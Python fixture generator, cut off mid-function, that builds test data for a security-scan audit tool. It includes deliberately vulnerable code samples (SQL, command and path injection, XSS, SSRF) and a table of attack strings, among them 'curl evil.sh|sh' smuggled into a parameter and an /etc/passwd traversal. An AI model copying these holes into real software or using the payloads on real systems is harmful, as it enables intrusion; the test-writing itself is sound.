#!/usr/bin/env python3
"""Fixture generator for scanaudit.

Regenerates (deterministically, byte-identical on every run):

  testdata/healthy/...            OpenAnt scan trees where every file is healthy
  testdata/damaged/...            the same kind of trees, damaged the way real damage happens
  testdata/outside-target.json    a torn file outside both trees (target of a symlink)
  testdata/expected/healthy.json  {"findings": []}
  testdata/expected/damaged.json  every per-file finding the damaged tree must produce
  testdata/legacy/...             old layouts `scanaudit migrate` upgrades (expected/legacy.json,
                                  expected/legacy-mtimes.json)
  testdata/migrated/...           legacy/ after the reference implementation of every migration

Other modes:

  generate.py bench OUTDIR [--scans 20] [--units 2000]   large realistic tree for benchmarks
  generate.py bigfile OUT.json [--size-mb 1024]          one big dataset-shaped JSON, streamed

Everything follows /work/shared/spec/openant-layout.md (the "spec"): file shapes and key orders
(§1), checkpoint naming (§2), how OpenAnt derives each output from checkpoints (§3), temp names
(§4) and eras (§5).  Python 3 stdlib only.
"""

import argparse
import hashlib
import json
import os
import random
import shutil
import sys
import time
from pathlib import Path

HERE = Path(__file__).resolve().parent
HEALTHY = HERE / "healthy"
LEGACY = HERE / "legacy"
MIGRATED = HERE / "migrated"
DAMAGED = HERE / "damaged"
EXPECTED = HERE / "expected"
MIGRATED = HERE / "migrated"
OUTSIDE = HERE / "outside-target.json"

# Where the recorded paths inside reports point (the machine the scans were "made" on).
OPENANT_HOME = "/home/dev/.openant"

OPUS = "claude-opus-4-6"
SONNET_FIX = "claude-sonnet-4-20250514"
SONNET_FORK = "claude-sonnet-4-6"

BOUNDARY = "\n\n// ========== File Boundary ==========\n\n"

# ---------------------------------------------------------------------------------------------
# Serialization (spec §3.0)
# ---------------------------------------------------------------------------------------------


def py_json(obj, ensure_ascii=True, crlf=False, encoding="utf-8"):
    """Exactly what OpenAnt's `json.dump(obj, f, indent=2, ensure_ascii=X)` leaves on disk.

    No trailing newline.  `crlf` emulates a text-mode write on Windows.  `encoding` lets a
    Windows-era (pre-3cdca87) scan write with the locale code page (cp1252)."""
    s = json.dumps(obj, indent=2, ensure_ascii=ensure_ascii)
    if crlf:
        s = s.replace("\n", "\r\n")
    return s.encode(encoding)


def go_json(obj):
    """Go `json.MarshalIndent(v, "", "  ")` + "\\n": raw UTF-8, `< > &` and U+2028/9 escaped."""
    s = json.dumps(obj, indent=2, ensure_ascii=False)
    for a, b in (("<", "\\u003c"), (">", "\\u003e"), ("&", "\\u0026"),
                 ("\u2028", "\\u2028"), ("\u2029", "\\u2029")):
        s = s.replace(a, b)
    return (s + "\n").encode("utf-8")


def text(s, crlf=False, encoding="utf-8"):
    """A Markdown file as OpenAnt writes it: `open(path, "w")`, so before 3cdca87 on Windows
    with CRLF line endings and in the locale code page."""
    if crlf:
        s = s.replace("\n", "\r\n")
    return s.encode(encoding)


def safe_filename(unit_id):
    """utilities/safe_filename.py (spec §2.2)."""
    safe = (unit_id.replace("/", "__").replace("\\", "__").replace(":", "_").replace(" ", "_"))
    max_len = 255 - 5 - 17
    if len(safe) > max_len:
        h = hashlib.sha256(unit_id.encode("utf-8")).hexdigest()[:16]
        safe = safe[:max_len] + "_" + h
    return safe


def utc_z(t, frac=0):
    """StepReport / _summary timestamp: `isoformat().replace('+00:00','Z')`."""
    s = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t))
    return s + (".%06d" % frac if frac else "") + "Z"


def utc_iso(t, frac=0):
    s = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t))
    return s + (".%06d" % frac if frac else "") + "+00:00"


def local_naive(t, frac=0):
    s = time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t))
    return s + (".%06d" % frac if frac else "")


def rfc3339(t):
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(t))


def T(s):
    """Fixed epoch seconds from 'YYYY-mm-ddTHH:MM:SS' (UTC)."""
    import calendar
    return calendar.timegm(time.strptime(s, "%Y-%m-%dT%H:%M:%S"))


# ---------------------------------------------------------------------------------------------
# Code snippets (realistic multi-line code; some non-ASCII)
# ---------------------------------------------------------------------------------------------

PY_BODIES = {
    "sql": '''def {name}({args}):
    """Fetch a row by id."""
    conn = get_connection()
    cursor = conn.cursor()
    query = "SELECT * FROM users WHERE id = '%s'" % {arg0}
    cursor.execute(query)
    row = cursor.fetchone()
    if row is None:
        raise NotFound("user %s not found" % {arg0})
    return row''',
    "path": '''def {name}({args}):
    base = current_app.config["UPLOAD_ROOT"]
    target = os.path.join(base, {arg0})
    if ".." in {arg0}.split("/")[0]:
        abort(400)
    return send_file(target, as_attachment=True)''',
    "cmd": '''def {name}({args}):
    out = f"/tmp/export-{{{arg0}}}.csv"
    subprocess.run("pg_dump --table=%s > %s" % ({arg0}, out), shell=True, check=True)
    with open(out, "rb") as fh:
        return Response(fh.read(), mimetype="text/csv")''',
    "xss": '''def {name}({args}):
    # Affiche le profil — « résumé » de l’utilisateur 🚀
    bio = request.args.get("bio", "")
    html = "<div class='bio'>" + {arg0}.display_name + " · " + bio + "</div>"
    return Markup(html)''',
    "safe": '''def {name}({args}):
    if not {arg0}:
        return None
    value = str({arg0}).strip()
    return value.lower()''',
    "protected": '''def {name}({args}):
    token = {arg0}
    try:
        payload = jwt.decode(token, SECRET_KEY, algorithms=["HS256"])
    except jwt.InvalidTokenError:
        raise Unauthorized("invalid token")
    if payload.get("exp", 0) < time.time():
        raise Unauthorized("expired")
    return payload["sub"]''',
    "ssrf": '''def {name}({args}):
    url = request.args["url"]
    host = urlparse(url).hostname or ""
    if host in BLOCKED_HOSTS:
        abort(403)
    resp = requests.get(url, timeout=5)
    return jsonify(status=resp.status_code, body=resp.text[:500])''',
    "upload": '''def {name}({args}):
    f = request.files["avatar"]
    dest = os.path.join(AVATAR_DIR, f.filename)
    f.save(dest)
    return {{"path": dest}}''',
    "i18n": '''def {name}({args}):
    """Übersetzt die Elemente: « Grüße », « café », « naïve »."""
    table = {{"grüße": "salutations", "café": "café", "naïve": "naïf"}}
    return [table.get(e, e) for e in {arg0}]''',
    "inconclusive": '''def {name}({args}):
    cfg = yaml.load(open(CONFIG_PATH), Loader=CustomLoader)
    plugin = cfg.get("plugin")
    if plugin:
        return importlib.import_module(plugin).run({arg0})
    return None''',
    "misc": '''def {name}({args}):
    result = []
    for item in {arg0}:
        if item is None:
            continue
        result.append(normalize(item))
    logger.debug("processed %d items", len(result))
    return result''',
}

JS_BODIES = {
    "sql": '''async function {name}(req, res) {{
  const id = req.params.id;
  const rows = await db.query("SELECT * FROM orders WHERE id = " + id);
  if (!rows.length) return res.status(404).json({{ error: "not found" }});
  res.json(rows[0]);
}}''',
    "xss": '''function {name}(req, res) {{
  const q = req.query.q || "";
  // Résultats de recherche — «{{q}}» ✨
  res.send(`<h1>Results for ${{q}}</h1><ul>${{render(q)}}</ul>`);
}}''',
    "proto": '''function {name}(target, source) {{
  for (const key of Object.keys(source)) {{
    if (typeof source[key] === "object") {{
      target[key] = {name}(target[key] || {{}}, source[key]);
    }} else {{
      target[key] = source[key];
    }}
  }}
  return target;
}}''',
    "safe": '''function {name}(req, res) {{
  res.json({{ status: "ok", uptime: process.uptime() }});
}}''',
    "protected": '''function {name}(req, res, next) {{
  const token = req.get("Authorization") || "";
  if (!verifyJwt(token.replace(/^Bearer /, ""))) {{
    return res.status(401).end();
  }}
  next();
}}''',
    "misc": '''function {name}(items) {{
  return items
    .filter(Boolean)
    .map((x) => ({{ ...x, price: Number(x.price).toFixed(2) }}));
}}''',
}

GO_BODIES = {
    "cmd": '''func {name}(w http.ResponseWriter, r *http.Request) {{
	name := r.URL.Query().Get("name")
	out, err := exec.Command("sh", "-c", "convert "+name+" out.png").CombinedOutput()
	if err != nil {{
		http.Error(w, string(out), 500)
		return
	}}
	w.Write(out)
}}''',
    "safe": '''func {name}(s string) string {{
	return strings.TrimSpace(strings.ToLower(s))
}}''',
    "misc": '''func {name}(ctx context.Context, id int64) (*Item, error) {{
	var it Item
	err := db.QueryRowContext(ctx, "SELECT id, name FROM items WHERE id = $1", id).Scan(&it.ID, &it.Name)
	return &it, err
}}''',
}

CWE = {
    "sql": (89, "SQL Injection"),
    "path": (22, "Path Traversal"),
    "cmd": (78, "OS Command Injection"),
    "xss": (79, "Cross-site Scripting"),
    "ssrf": (918, "Server-Side Request Forgery"),
    "upload": (434, "Unrestricted Upload of File with Dangerous Type"),
    "proto": (1321, "Prototype Pollution"),
}

ATTACK = {
    "sql": "Attacker sends id=1' OR '1'='1 to read every user row",
    "path": "GET /files?name=../../etc/passwd escapes UPLOAD_ROOT",
    "cmd": "table=users;curl evil.sh|sh runs arbitrary commands",
    "xss": "?bio=<script>alert(document.cookie)</script> is rendered unescaped",
    "ssrf": "url=http://169.254.169.254/latest/meta-data/ bypasses the host blocklist",
    "upload": "Upload shell.php.jpg with a crafted filename to write outside AVATAR_DIR",
    "proto": "POST {\"__proto__\": {\"isAdmin\": true}} pollutes Object.prototype",
}


def render_code(lang, kind, name, args="value", big=0):
    bodies = {"python": PY_BODIES, "javascript": JS_BODIES, "go": GO_BODIES}[lang]
    body = bodies.get(kind) or bodies["misc"]
    arg0 = args.split(",")[0].strip() or "value"
    code = body.format(name=name, args=args, arg0=arg0)
    if big:
        # Pad with realistic lines until the code is `big` characters long.
        lines = [code]
        i = 0
        while sum(len(x) + 1 for x in lines) < big:
            i += 1
            if lang == "python":
                lines.append("    # step %d: validate field_%d against the schema registry (v%d)" % (i, i, i % 7))
            else:
                lines.append("  // step %d: validate field_%d against the schema registry (v%d)" % (i, i, i % 7))
        code = "\n".join(lines)
    return code


# ---------------------------------------------------------------------------------------------
# Unit plans
# ---------------------------------------------------------------------------------------------


class U:
    """One unit's plan: what the parser found and what every LLM step answered."""

    def __init__(self, uid, kind="misc", finding="safe", unit_type="function", cls=None,
                 enh="neutral", enh_error=None, verify=None, dyn=None, route=None,
                 diff_selected=None, big=0, error=None, includes=(), entry=False,
                 exploit_path=None, lang="python", args="value"):
        self.id = uid
        self.kind = kind
        self.finding = finding          # stage-1 finding (or "error")
        self.unit_type = unit_type
        self.cls = cls
        self.enh = enh                  # enhance security_classification
        self.enh_error = enh_error      # None | dict error | "string" (legacy)
        self.verify = verify            # None | (agree, correct_finding)
        self.dyn = dyn                  # dynamic status for its finding
        self.route = route              # JS route dict
        self.diff_selected = diff_selected
        self.big = big
        self.error = error              # None | "exception" | "parse"
        self.includes = list(includes)  # ids pulled in by the enhancer
        self.entry = entry
        self.exploit_path = exploit_path
        self.lang = lang
        self.args = args
        path, _, func = uid.rpartition(":")
        self.file = path
        self.func = func
        self.fname = func.split(".")[-1]


LONG_ID = ("app/plugins/vendor/acme_enterprise_integration_suite/connectors/salesforce/v2/handlers/"
           "bulk_operations/synchronization/incremental/strategies/timestamp_based/implementation/"
           "core.py:IncrementalTimestampSynchronizationStrategy.compute_next_watermark_for_partition")
assert len(safe_filename(LONG_ID)) == 250 and len(LONG_ID.replace("/", "__").replace(":", "_")) > 233


def acme_units(variant="a"):
    """acme-webapp (python, fix branch).  Mix of every verdict, tricky ids, one analyze error,
    one enhance error, a caller/callee pair that build-output dedups, non-ASCII code."""
    us = [
        U("app/routes/users.py:get_user", "sql", "vulnerable", enh="exploitable", entry=True,
          includes=["app/db/queries.py:run_query"], verify=(True, "vulnerable"), dyn="CONFIRMED",
          args="user_id", exploit_path={"entry_point": "GET /users/<id>",
                                        "data_flow": ["request.view_args['id']", "get_user(user_id)", "cursor.execute(query)"],
                                        "sink_reached": True, "attacker_control_at_sink": "full", "path_broken_at": None}),
        U("app/db/queries.py:run_query", "sql", "vulnerable", enh="vulnerable_internal",
          verify=(True, "vulnerable"), args="sql"),
        U("app/routes/files.py:download_file", "path", "bypassable", enh="exploitable", entry=True,
          verify=(False, "vulnerable"), dyn="CONFIRMED", args="name"),
        U("app/routes/admin.py:AdminView.export_csv", "cmd", "vulnerable", unit_type="method", cls="AdminView",
          enh="exploitable", verify=(False, "safe"), args="table"),
        U("app/auth/session.py:SessionManager.validate_token", "protected", "protected", unit_type="method",
          cls="SessionManager", enh="security_control", args="token"),
        U("app/utils/crypto.py:hash_password", "safe", "safe", enh="security_control", args="password"),
        U("app/templates/render.py:render_profile", "xss", "vulnerable", enh="exploitable", entry=True,
          verify=(True, "vulnerable"), dyn="NOT_REPRODUCED", args="user",
          includes=["app/models/user.py:User.to_dict"]),
        U("app/i18n/übersetzung.py:traduire_éléments", "i18n", "safe", args="éléments"),
        U("src/legacy code/old utils.py:parse_row", "inconclusive", "inconclusive", args="row"),
        U("app/api/webhooks.py:handle_webhook", "misc", "error", error="exception", enh="exploitable", entry=True,
          args="payload"),
        U(LONG_ID, "misc", "safe", unit_type="method", cls="IncrementalTimestampSynchronizationStrategy",
          args="self, partition"),
        U("app/routes/upload.py:upload_avatar", "upload", "vulnerable", enh="exploitable", entry=True,
          verify=(True, "vulnerable"), dyn="BLOCKED", args="user_id"),
        U("app/services/mailer.py:send_reset_email", "protected", "protected", enh="security_control", args="token"),
        U("app/models/user.py:User.to_dict", "safe", "safe", unit_type="method", cls="User", args="self"),
        U("app/routes/search.py:search", "ssrf", "bypassable", enh="exploitable", entry=True,
          verify=(True, "bypassable"), dyn="INCONCLUSIVE", args="query"),
        U("app/config.py:load_settings", "inconclusive", "inconclusive", args="env"),
        U("app/routes/health.py:healthcheck", "safe", "safe", entry=True, args=""),
        U("app/services/cache.py:CacheClient.get", "safe", "safe", unit_type="method", cls="CacheClient",
          enh_error={"type": "rate_limit", "exception_class": "RateLimitError",
                     "message": "Error code: 429 - {'type': 'error', 'error': {'type': 'rate_limit_error', 'message': 'Number of request tokens has exceeded your per-minute rate limit'}}",
                     "status_code": 429, "request_id": "req_011CVh7x2mQ9", "retry_after": 30.0},
          args="self, key"),
    ]
    if variant == "b":
        # The second scan (another commit): a fresh, not-restored run.  A parse-failure error,
        # an ERROR dynamic test, a Stage-1 consistency update and one more unit.
        us.append(U("app/routes/users.py:create_user", "misc", "safe", enh="exploitable", entry=True, args="page"))
        us.append(U("app/routes/reports.py:build_report", "misc", "error", error="parse", args="report_id"))
        for u in us:
            if u.id == "app/routes/upload.py:upload_avatar":
                u.dyn = "ERROR"
    return us


def storefront_units():
    """widgets/storefront (javascript, incremental diff scan)."""
    def R(method, path, handler):
        return {"method": method, "path": path, "handler": handler, "middleware": ["authenticate"] if path.startswith("/api/admin") else []}
    us = [
        U("src/routes/orders.js:getOrder", "sql", "vulnerable", unit_type="route_handler", lang="javascript",
          enh="exploitable", route=R("GET", "/api/orders/:id", "getOrder"), diff_selected=True, entry=True),
        U("src/routes/search.js:searchProducts", "xss", "vulnerable", unit_type="route_handler", lang="javascript",
          enh="exploitable", route=R("GET", "/search", "searchProducts"), diff_selected=True, entry=True),
        U("src/lib/merge.js:deepMerge", "proto", "bypassable", lang="javascript", enh="vulnerable_internal",
          diff_selected=True),
        U("src/routes/admin.js:requireAdmin", "protected", "protected", unit_type="route_middleware",
          lang="javascript", enh="security_control", route=R("POST", "/api/admin/reindex", "requireAdmin"),
          diff_selected=True),
        U("src/routes/health.js:health", "safe", "safe", unit_type="route_handler", lang="javascript",
          route=R("GET", "/healthz", "health"), diff_selected=True),
        U("src/lib/format.js:formatPrices", "misc", "inconclusive", lang="javascript", diff_selected=True),
        U("src/lib/cart.js:cartTotal", "misc", "safe", lang="javascript", diff_selected=False),
        U("src/routes/cart.js:addToCart", "misc", "safe", unit_type="route_handler", lang="javascript",
          route=R("POST", "/api/cart", "addToCart"), diff_selected=False),
        U("src/lib/i18n.js:traduire", "misc", "safe", lang="javascript", diff_selected=False),
        U("src/routes/users.js:updateProfile", "misc", "safe", unit_type="route_handler", lang="javascript",
          route=R("PUT", "/api/users/:id", "updateProfile"), diff_selected=False),
    ]
    return us


def legacy_units():
    return [
        U("tool/cli.py:main", "cmd", "vulnerable", enh="exploitable", entry=True, verify=(True, "vulnerable"),
          dyn="CONFIRMED", args="argv"),
        U("tool/fetch.py:fetch_remote", "ssrf", "bypassable", enh="exploitable", verify=(False, "vulnerable"),
          args="url"),
        U("tool/parse.py:parse_config", "inconclusive", "inconclusive", args="path"),
        U("tool/util.py:slugify", "safe", "safe", args="name"),
        U("tool/auth.py:check_signature", "protected", "protected", enh="security_control", args="sig"),
        U("tool/report.py:render_résumé", "xss", "vulnerable", enh="exploitable", verify=(True, "vulnerable"),
          dyn="NOT_REPRODUCED", args="data"),
        U("tool/cache.py:warm_cache", "misc", "safe", enh_error="Agent error: Connection error.", args="keys"),
    ]


def fork_units():
    return [
        U("svc/api/handlers.py:create_invoice", "sql", "vulnerable", enh="exploitable", entry=True,
          verify=(True, "vulnerable"), dyn="CONFIRMED", args="payload"),
        U("svc/api/handlers.py:delete_invoice", "misc", "insufficient_context", enh="exploitable", entry=True,
          args="invoice_id"),
        U("svc/storage/blob.py:BlobStore.read", "path", "bypassable", unit_type="method", cls="BlobStore",
          enh="vulnerable_internal", verify=(False, "protected"), args="self, key"),
        U("svc/core/money.py:round_cents", "safe", "safe", args="amount"),
        U("svc/auth/tokens.py:verify_token", "protected", "protected", enh="security_control", args="token"),
        U("svc/core/naïve_dates.py:parse_date", "i18n", "inconclusive", args="raw"),
        U("svc/api/export.py:export_report", "cmd", "vulnerable", enh="exploitable", entry=True,
          verify=(True, "vulnerable"), dyn="NOT_REPRODUCED", args="fmt"),
        U("svc/api/webhooks.py:receive", "misc", "error", error="exception", enh="exploitable", args="body"),
    ]


def win_units():
    """winproj (legacy tree): a Windows scan's units, whose non-ASCII text is all cp1252-encodable
    and includes characters of cp1252's 0x80-0x9F range (œ, and — in the summary report), where
    cp1252 is not Latin-1."""
    return [
        U("app/exports/relevé.py:exporter_œuvres", "cmd", "vulnerable", enh="exploitable", entry=True,
          verify=(True, "vulnerable"), dyn="CONFIRMED", args="nom"),
        U("app/facturation/façade.py:mettre_à_jour_total", "sql", "vulnerable", enh="exploitable", entry=True,
          verify=(True, "vulnerable"), dyn="NOT_REPRODUCED", args="montant"),
        U("app/util.py:normalize", "safe", "safe"),
        U("app/auth.py:check_token", "protected", "protected", enh="security_control", args="token"),
        U("app/i18n/café.py:grüße", "i18n", "safe", args="names"),
        U("app/config.py:load", "inconclusive", "inconclusive", args="path"),
    ]


def forkstop_units():
    """forkstop (javascript, the fork before its a565352 merge): Express routes, whose route_key
    (`METHOD:/path`) is not their unit id, and a non-ASCII id among the findings."""
    def R(method, path, handler):
        return {"method": method, "path": path, "handler": handler, "middleware": []}
    return [
        U("src/routes/invoices.js:getInvoice", "sql", "vulnerable", unit_type="route_handler", lang="javascript",
          enh="exploitable", route=R("GET", "/api/invoices/:id", "getInvoice"), entry=True,
          verify=(True, "vulnerable")),
        U("src/routes/export.js:exportCsv", "xss", "vulnerable", unit_type="route_handler", lang="javascript",
          enh="exploitable", route=R("POST", "/api/export", "exportCsv"), entry=True, verify=(False, "safe")),
        U("src/lib/données/format.js:formaterMontant", "xss", "bypassable", lang="javascript",
          enh="vulnerable_internal", verify=(True, "bypassable")),
        U("src/lib/merge.js:deepMerge", "proto", "bypassable", lang="javascript", enh="vulnerable_internal",
          verify=(True, "bypassable")),
        U("src/routes/health.js:health", "safe", "safe", unit_type="route_handler", lang="javascript",
          route=R("GET", "/healthz", "health"), entry=True),
        U("src/auth/session.js:checkSession", "protected", "protected", lang="javascript", enh="security_control"),
        U("src/routes/webhook.js:receive", "misc", "error", error="exception", unit_type="route_handler",
          lang="javascript", enh="exploitable", route=R("POST", "/hooks/stripe", "receive"), entry=True),
        U("src/lib/i18n.js:traduire", "misc", "inconclusive", lang="javascript"),
    ]


def small_units(lang="python", prefix="pkg", n=6, with_vuln=True, big_unit=False, extra_nonascii=True):
    """Small scans for the ad-hoc/nogit/damaged trees."""
    ext = {"python": "py", "javascript": "js", "go": "go"}[lang]
    us = []
    if with_vuln:
        us.append(U("%s/handlers.%s:run_command" % (prefix, ext), "cmd", "vulnerable", enh="exploitable",
                    entry=True, verify=(True, "vulnerable"), dyn="CONFIRMED", lang=lang, args="name"))
        us.append(U("%s/views.%s:show_page" % (prefix, ext), "xss", "vulnerable",
                    enh="exploitable", entry=True, verify=(True, "vulnerable"), dyn="NOT_REPRODUCED", lang=lang,
                    args="page"))
    us.append(U("%s/util.%s:normalize" % (prefix, ext), "safe", "safe", lang=lang))
    us.append(U("%s/auth.%s:check_token" % (prefix, ext), "protected", "protected", enh="security_control",
                lang=lang, args="token"))
    if extra_nonascii:
        us.append(U("%s/i18n/café.%s:grüße" % (prefix, ext), "i18n" if lang == "python" else "misc", "safe",
                    lang=lang, args="names"))
    us.append(U("%s/config.%s:load" % (prefix, ext), "inconclusive", "inconclusive", lang=lang, args="path"))
    if big_unit:
        us.append(U("%s/engine.%s:Engine.process_batch" % (prefix, ext), "misc", "safe", unit_type="method",
                    cls="Engine", lang=lang, big=12000, args="self, batch"))
    i = 0
    while len(us) < n:
        i += 1
        us.append(U("%s/extra/mod%02d.%s:helper_%02d" % (prefix, i, ext, i), "misc", "safe", lang=lang, args="items"))
    return us


def bench_units(rng, n, idx):
    kinds = ["sql", "path", "cmd", "xss", "ssrf", "upload", "safe", "protected", "inconclusive", "misc"]
    findings = {"sql": "vulnerable", "path": "bypassable", "cmd": "vulnerable", "xss": "vulnerable",
                "ssrf": "bypassable", "upload": "vulnerable", "safe": "safe", "protected": "protected",
                "inconclusive": "inconclusive", "misc": "safe"}
    us = []
    for i in range(n):
        k = rng.choice(kinds) if rng.random() < 0.25 else rng.choice(["safe", "misc", "protected", "inconclusive"])
        f = findings[k]
        mod = "svc%02d/pkg%03d/module_%04d.py" % (idx, i // 40, i)
        uid = "%s:handler_%04d" % (mod, i)
        ver = None
        dyn = None
        if f in ("vulnerable", "bypassable"):
            ver = (True, f) if rng.random() < 0.7 else (False, rng.choice(["safe", "vulnerable"]))
            dyn = rng.choice(["CONFIRMED", "NOT_REPRODUCED", "BLOCKED", "INCONCLUSIVE"])
        us.append(U(uid, k, f, enh=rng.choice(["neutral", "exploitable", "security_control"]), verify=ver,
                    dyn=dyn, big=rng.randint(1500, 5000), args="request"))
    return us


# ---------------------------------------------------------------------------------------------
# Scan configuration
# ---------------------------------------------------------------------------------------------


class Scan:
    def __init__(self, name, units, lang="python", era="fix", seed=1, start="2026-05-14T09:00:00",
                 verify=True, dynamic=True, context=True, report=True, restored=True,
                 out_dir=None, repo_path=None, repo_name=None, repo_url="", commit=None,
                 diff=None, model="opus", crlf=False, encoding="utf-8", consistency_update=False,
                 level="reachable", enhance=True, fork_enhance_dir=True, checkpoint_dirs=True,
                 md_encoding="utf-8"):
        self.name = name
        # False: the fork before the a565352 merge, whose single-file checkpoints were deleted
        # on success, so a finished scan has no per-unit checkpoint dirs
        self.checkpoint_dirs = checkpoint_dirs
        # the fork master names its enhance checkpoint dir dataset_enhanced_checkpoint_checkpoints/
        # (spec §2.6); False gives the enhance_checkpoints/ that `scanaudit migrate` leaves
        self.fork_enhance_dir = fork_enhance_dir
        self.units = units
        self.lang = lang
        self.era = era               # "fix" | "legacy" | "fork"
        self.rng = random.Random(seed)
        self.t0 = T(start)
        self.verify = verify
        self.dynamic = dynamic
        self.context = context
        self.report = report
        self.restored = restored     # outputs rebuilt by a resumed run (every unit restored)
        self.out_dir = out_dir       # absolute path recorded in reports
        self.repo_path = repo_path
        self.repo_name = repo_name
        self.repo_url = repo_url
        self.commit = commit
        self.diff = diff             # (manifest dict, stats dict) or None
        self.model = model
        self.crlf = crlf
        self.encoding = encoding     # of the ensure_ascii=False JSON files
        self.md_encoding = md_encoding
        self.consistency_update = consistency_update
        self.level = level
        self.enhance = enhance
        self.files = {}              # relative path -> bytes

    # -- helpers --
    def p(self, rel):
        return self.out_dir + "/" + rel

    def put(self, rel, data):
        self.files[rel] = data

    def pj(self, rel, obj, ensure_ascii=True):
        self.put(rel, py_json(obj, ensure_ascii=ensure_ascii, crlf=self.crlf,
                              encoding="utf-8" if ensure_ascii else self.encoding))

    def money(self, tin, tout):
        if self.model == "opus":
            return round(tin * 15e-6 + tout * 75e-6, 6)
        return round(tin * 3e-6 + tout * 15e-6, 6)


# ---------------------------------------------------------------------------------------------
# Builders: parse outputs
# ---------------------------------------------------------------------------------------------


def unit_base_code(sc, u):
    return render_code(u.lang, u.kind, u.fname, u.args, big=u.big)


def parser_generator(lang):
    """`metadata.generator` of each parser's dataset and units: the Python-hosted parsers write
    `<lang>_unit_generator.py`, the JavaScript one `unit_generator.js`, the Go one `go_parser`."""
    return {"javascript": "unit_generator.js", "go": "go_parser"}.get(lang, "%s_unit_generator.py" % lang)


def build_parse(sc):
    """dataset.json, analyzer_output.json, call_graph.json (spec §1.4.5)."""
    legacy = sc.era == "legacy"
    ids = [u.id for u in sc.units]
    by_id = {u.id: u for u in sc.units}
    # call graph: includes are callees; the first includer is the only caller
    calls = {i: [] for i in ids}
    callers = {}
    for u in sc.units:
        for c in u.includes:
            if c in by_id:
                calls[u.id].append(c)
                callers.setdefault(c, []).append(u.id)
    # a callee with several callers (never deduped)
    util = [u.id for u in sc.units if u.kind in ("safe",) and not u.includes]
    if len(util) >= 1 and len(ids) >= 4:
        tgt = util[0]
        for c in [x for x in ids if x != tgt][:2]:
            if tgt not in calls[c]:
                calls[c].append(tgt)
                callers.setdefault(tgt, []).append(c)
    units = []
    by_type = {}
    for u in sc.units:
        code = unit_base_code(sc, u)
        start = 10 + (sum(map(ord, u.id)) % 300)
        end = start + code.count("\n")
        po = {
            "file_path": u.file,
            "start_line": start,
            "end_line": end,
            "function_name": u.fname,
            "class_name": u.cls,
        }
        po["enhanced" if legacy else "deps_inlined"] = False
        po["files_included"] = [u.file]
        po["original_length"] = len(code)
        po["enhanced_length"] = len(code)
        unit = {
            "id": u.id,
            "unit_type": u.unit_type,
            "code": {
                "primary_code": code,
                "primary_origin": po,
                "dependencies": [],
                "dependency_metadata": {
                    "depth": 3,
                    "total_upstream": len(calls[u.id]),
                    "total_downstream": len(callers.get(u.id, [])),
                    "direct_calls": len(calls[u.id]),
                    "direct_callers": len(callers.get(u.id, [])),
                },
            },
        }
        if u.lang == "javascript":
            unit["route"] = dict(u.route) if u.route else None
            if u.route:
                unit["is_entry_point"] = True
                unit["http_method"] = u.route["method"]
                unit["http_path"] = u.route["path"]
                unit["callback_index"] = 0
        unit["ground_truth"] = {"status": "UNKNOWN", "vulnerability_types": [], "issues": [],
                                "annotation_source": None, "annotation_key": None, "notes": None}
        if u.lang == "python":
            unit["metadata"] = {"decorators": ["app.route"] if u.entry else [], "is_async": False,
                                "parameters": [a.strip() for a in u.args.split(",") if a.strip()],
                                "docstring": None, "generator": parser_generator("python"),
                                "direct_calls": calls[u.id], "direct_callers": callers.get(u.id, [])}
        else:
            unit["metadata"] = {"exported": True, "generator": parser_generator(u.lang),
                                "direct_calls": calls[u.id], "direct_callers": callers.get(u.id, [])}
        if sc.level == "reachable" and not legacy:
            unit["reachable"] = True
            ep = u.entry or bool(u.route)
            if u.lang != "javascript" or "is_entry_point" not in unit:
                unit["is_entry_point"] = ep
            if ep:
                unit["entry_point_reason"] = "HTTP route decorator" if u.lang == "python" else "Express route registration"
        if u.diff_selected is not None:
            unit["diff_selected"] = u.diff_selected
        units.append(unit)
        by_type[u.unit_type] = by_type.get(u.unit_type, 0) + 1
    n = len(units)
    if u.lang == "javascript" or sc.lang == "javascript":
        stats = {"totalUnits": n + 3, "byType": by_type, "unitsWithUpstream": sum(1 for x in calls.values() if x),
                 "unitsWithDownstream": len(callers), "callGraph": {"edges": sum(len(x) for x in calls.values())}}
    else:
        stats = {"total_units": n + (3 if sc.level == "reachable" and not legacy else 0), "by_type": by_type,
                 "units_with_upstream": sum(1 for x in calls.values() if x),
                 "units_with_downstream": len(callers), "units_enhanced": 0,
                 "avg_upstream": round(sum(len(x) for x in calls.values()) / n, 2),
                 "avg_downstream": round(sum(len(x) for x in callers.values()) / n, 2)}
    meta = {"generator": parser_generator(sc.lang),
            "generated_at": local_naive(sc.t0 + 3, 412803), "dependency_depth": 3}
    if sc.level == "reachable" and not legacy:
        # The parser statistics are computed before the reachability filter (3 units dropped).
        meta["reachability_filter"] = {"original_units": n + 3,
                                       "entry_points": sum(1 for u in sc.units if u.entry or u.route),
                                       "reachable_units": n, "filtered_out": 3,
                                       "reduction_percentage": round((1 - n / (n + 3)) * 100, 1)}
    name = os.path.basename(sc.repo_path)
    dataset = {"name": name, "repository": sc.repo_path, "units": units, "statistics": stats, "metadata": meta}
    funcs = {}
    for u, unit in zip(sc.units, units):
        f = {"name": u.fname, "code": unit["code"]["primary_code"], "isExported": True,
             "unitType": u.unit_type, "startLine": unit["code"]["primary_origin"]["start_line"],
             "endLine": unit["code"]["primary_origin"]["end_line"]}
        if u.cls:
            f["className"] = u.cls
        funcs[u.id] = f
    analyzer_output = {"functions": funcs}
    rcg = {k: v for k, v in callers.items()}
    cg_funcs = {}
    for u, unit in zip(sc.units, units):
        cg_funcs[u.id] = {"name": u.fname, "file_path": u.file, "class_name": u.cls, "unit_type": u.unit_type,
                          "start_line": unit["code"]["primary_origin"]["start_line"],
                          "end_line": unit["code"]["primary_origin"]["end_line"]}
    edges = sum(len(v) for v in calls.values())
    call_graph = {"repository": sc.repo_path, "functions": cg_funcs, "classes": {}, "imports": {},
                  "call_graph": calls, "reverse_call_graph": rcg,
                  "statistics": {"total_edges": edges, "avg_out_degree": round(edges / n, 2),
                                 "max_out_degree": max(len(v) for v in calls.values()),
                                 "isolated_functions": sum(1 for i in ids if not calls[i] and i not in callers)}}
    return dataset, analyzer_output, call_graph


def build_app_context(sc):
    return {
        "application_type": "web_app",
        "purpose": "Customer-facing web application for %s: accounts, files and search" % sc.repo_name,
        "intended_behaviors": ["Users download their own uploaded files", "Admins export tables as CSV",
                               "Profiles render user-supplied bios (sanitised « résumé » field)"],
